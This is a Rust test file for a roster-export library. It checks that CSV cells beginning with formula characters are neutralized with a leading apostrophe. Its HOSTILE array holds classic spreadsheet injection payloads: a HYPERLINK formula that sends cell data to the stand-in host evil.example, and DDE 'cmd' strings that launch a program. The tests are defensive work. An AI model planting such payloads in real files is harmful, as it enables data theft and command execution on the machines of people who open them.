//! Issue 17, item 7: CSV formula injection. Text cells starting with `=`, `+`, `-`, `@`, tab or
//! carriage return are written with a leading `'` (OWASP "CSV Injection"), so Excel shows them
//! as text; numbers, negative ones included, stay numbers; XLSX is left as it is.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    missing_docs
)]

use dangjian::io::Dataset;
use dangjian::scope::RosterExportOptions;
use dangjian::table::{to_csv, ColumnValues, CsvOptions, OwnedColumn, OwnedTable, Role};

const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
];

fn fields(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn dangerous(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn text_cells_are_neutralized_and_numbers_stay_numbers() {
    let n = HOSTILE.len();
    let t = OwnedTable {
        name: "t".into(),
        title_zh: "表".into(),
        rows: n,
        columns: vec![
            OwnedColumn::new(
                "name",
                "姓名",
                Role::PersonName,
                ColumnValues::Str(HOSTILE.iter().map(|s| s.to_string()).collect()),
            ),
            OwnedColumn::new(
                "n",
                "数",
                Role::Value,
                ColumnValues::I64((0..n as i64).map(|i| -i - 1).collect()),
            ),
            OwnedColumn::new(
                "fen",
                "金额",
                Role::Value,
                ColumnValues::Fen((0..n as i64).map(|i| -150 * i - 1).collect()),
            ),
        ],
    };
    let rows = fields(&to_csv(&t, &CsvOptions::en()).unwrap());
    for (i, r) in rows.iter().skip(1).enumerate() {
        assert_eq!(r[0], format!("'{}", HOSTILE[i]), "row {i}");
        assert_eq!(r[1], (-(i as i64) - 1).to_string());
        assert!(r[2].starts_with('-'), "{r:?}");
    }
}

#[test]
fn every_csv_writer_neutralizes_a_hostile_name_and_id() {
    let reg_ok = dangjian::Registry::sample_small();
    let d = "2024-06-01".parse().unwrap();
    for bad in HOSTILE {
        let mut v = serde_json::to_value(Dataset::sample_small()).unwrap();
        // The name (free text) and the group id (an org id from input).
        v["members"][0]["name"] = serde_json::json!(bad.trim());
        v["orgs"][2]["name"] = serde_json::json!(bad.trim());
        let ds = Dataset::from_json(&v.to_string()).unwrap();
        let reg = ds.to_registry().unwrap();
        let opts = RosterExportOptions {
            show_names: true,
            ..RosterExportOptions::default()
        };
        let roster = reg.scope_all().roster_on(d, &opts);
        let csvs = [
            roster.to_csv().unwrap(),
            to_csv(&roster.to_table(), &CsvOptions::en()).unwrap(),
        ];
        for csv in csvs {
            for r in fields(&csv) {
                for c in r {
                    assert!(!dangerous(&c), "{c:?} in {csv}");
                }
            }
        }
    }
    drop(reg_ok);
}
